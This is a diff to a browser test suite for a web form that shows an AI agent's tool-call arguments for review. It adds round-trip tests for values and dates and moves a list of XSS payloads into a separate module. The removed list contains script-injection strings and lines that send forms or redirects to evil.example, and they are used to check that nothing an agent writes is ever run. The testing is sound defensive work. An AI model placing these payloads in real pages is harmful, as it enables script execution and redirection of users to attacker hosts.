@@ -8,24 +8,36 @@ import json
 from collections.abc import Callable
 
 import pytest
+from django.utils.html import format_html_join
 
 from tests.cards.desk import Desk
 from tests.cards.making import SAMPLES, Reviewer, card_of, schema_of, tool_card
+from tests.cards.xss import XSS
 
 AT = "/edited_action/args"
+WITH_VALUE = {name: sample for name, sample in SAMPLES.items() if sample.get("initial") is not None}
+FIELDS = "() => [...document.forms].map((form) => [...new FormData(form)])"
 
 pytestmark = pytest.mark.browser
 
 
-@pytest.mark.parametrize("scripts", [True, False])
-def test_chromium_posts_every_sample_back_untouched(desk_of: Callable[..., Desk], scripts: bool) -> None:
-    desk = desk_of(java_script_enabled=scripts)
-    for sample in SAMPLES.values():
-        if sample.get("initial") is None:
-            continue
+def test_chromium_posts_every_sample_back_untouched_without_a_script(desk_of: Callable[..., Desk]) -> None:
+    desk = desk_of(java_script_enabled=False)
+    for sample in WITH_VALUE.values():
         page = desk.open(Reviewer.before(schema_of(sample), sample["initial"]))
         page.click("[data-send]")
         assert json.dumps(desk.reading.answer) == json.dumps(sample["initial"])
+
+
+def test_chromium_reads_every_sample_of_one_page_back_untouched(desk_of: Callable[..., Desk]) -> None:
+    reviewers = [Reviewer.before(schema_of(sample), sample["initial"]) for sample in WITH_VALUE.values()]
+    forms = format_html_join("", "<form>{}</form>", ((reviewer.html_safe,) for reviewer in reviewers))
+    posted = desk_of().show(forms).evaluate(FIELDS)
+    for reviewer, fields, sample in zip(reviewers, posted, WITH_VALUE.values(), strict=True):
+        sent: dict[str, list[str]] = {}
+        for name, value in fields:
+            sent.setdefault(name, []).append(value)
+        assert json.dumps(reviewer.post(sent).answer) == json.dumps(sample["initial"])
 
 
 def test_text_that_browsers_mangle_comes_back_as_it_was(desk_of: Callable[..., Desk]) -> None:
@@ -47,6 +59,28 @@ def test_text_that_browsers_mangle_comes_back_as_it_was(desk_of: Callable[..., D
     desk = desk_of()
     desk.open(Reviewer.before(schema, values)).click("[data-send]")
     assert desk.reading.answer == values
+
+
+def test_dates_that_are_none_and_dates_that_are_come_back_as_they_were(desk_of: Callable[..., Desk]) -> None:
+    values = [
+        "2026-02-30",
+        "2026-13-01",
+        "0000-01-01",
+        "\u0662\u0660\u0662\u0666-01-01",
+        "2026-1-1",
+        "tomorrow",
+        "",
+        "2026-12-01",
+    ]
+    schema = {"type": "array", "items": {"type": "string", "format": "date"}}
+    desk = desk_of()
+    page = desk.open(Reviewer.before(schema, values))
+    page.click("[data-send]")
+    assert desk.reading.answer == values
+    assert page.locator("input[type=date]").count() == 2
+    page.fill('[name="v:/7"]', "2026-12-24")
+    page.click("[data-send]")
+    assert desk.reading.answer == [*values[:-1], "2026-12-24"]
 
 
 def test_choosing_a_kind_shows_its_fields_at_once_and_keeps_what_was_typed(
@@ -150,30 +184,6 @@ def test_the_keyboard_alone_fills_the_most_complex_form(desk_of: Callable[..., D
     assert args["location"] is None
 
 
-XSS = [
-    "<script>window.pwned = 1</script>",
-    "<img src=x onerror='window.pwned = 1'>",
-    '"><svg onload="window.pwned = 1">',
-    "'><iframe srcdoc='<script>parent.pwned = 1</script>'>",
-    "</textarea><script>window.pwned = 1</script>",
-    "</title><script>window.pwned = 1</script>",
-    "<a href='javascript:window.pwned = 1'>x</a>",
-    "<style>@import 'http://evil.example/'</style>",
-    "<div hx-get=/x hx-trigger=load></div>",
-    "<form action=http://evil.example><button>Approve</button></form>",
-    "<base href=http://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "{{constructor.constructor('window.pwned = 1')()}}",
-    "${window.pwned = 1}",
-    "\u202e<script>window.pwned = 1</script>",
-    "<math><mi//xlink:href='data:x,<script>window.pwned = 1</script>'>",
-    "--><script>window.pwned = 1</script><!--",
-    "]]><script>window.pwned = 1</script>",
-    "\x00<script>window.pwned = 1</script>",
-    "<input autofocus onfocus='window.pwned = 1'>",
-]
-
-
 def test_nothing_that_an_agent_or_a_schema_writes_is_ever_run(desk_of: Callable[..., Desk]) -> None:
     desk = desk_of()
     schema = {
@@ -187,6 +197,6 @@ def test_nothing_that_an_agent_or_a_schema_writes_is_ever_run(desk_of: Callable[
     args = {**{text: text for text in XSS[::2]}, "other": XSS[3]}
     page = desk.open(Reviewer.at(tool_card(schema, args, tool=XSS[0], description=XSS[2])))
     page.click("[data-send]")
-    page.wait_for_timeout(200)
+    page.evaluate("() => new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(go)))")
     assert page.evaluate("window.pwned") is None
     assert page.locator("main script, main img, main iframe, main [onerror], main base").count() == 0
